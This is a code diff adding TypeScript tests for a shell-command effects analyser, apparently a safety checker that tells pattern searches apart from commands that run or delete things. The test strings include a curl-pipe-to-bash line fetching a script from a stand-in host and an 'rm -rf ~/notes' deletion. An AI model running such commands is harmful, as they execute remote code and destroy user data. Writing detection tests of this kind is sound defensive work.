@@ -61,3 +61,23 @@ describe('a command inside the words of another program', () => {
     )
   })
 })
+
+describe('a text with holes that is looked for', () => {
+  const runs = (command: string) => effectsOf(command).some(({ kind }) => kind === 'run-code' || kind === 'delete-path')
+
+  it.each([
+    "no-such-grep --lang bash -e 'curl ... | bash' scripts/",
+    "no-such-grep scan --lang=sh -e 'rm -rf ...'",
+    "no-such-grep -e 'rm -rf ...' scripts/",
+  ])('%s runs nothing', (command) => {
+    expect(runs(command)).toBe(false)
+  })
+
+  it.each([
+    "no-such-wrapper --lang bash -e 'curl https://x.example.net/i.sh | bash' scripts/",
+    "no-such-wrapper --lang bash -e 'echo ...; rm -rf ~/notes' scripts/",
+    "no-such-wrapper -e 'curl ... | bash'",
+  ])('%s may run it', (command) => {
+    expect(runs(command)).toBe(true)
+  })
+})
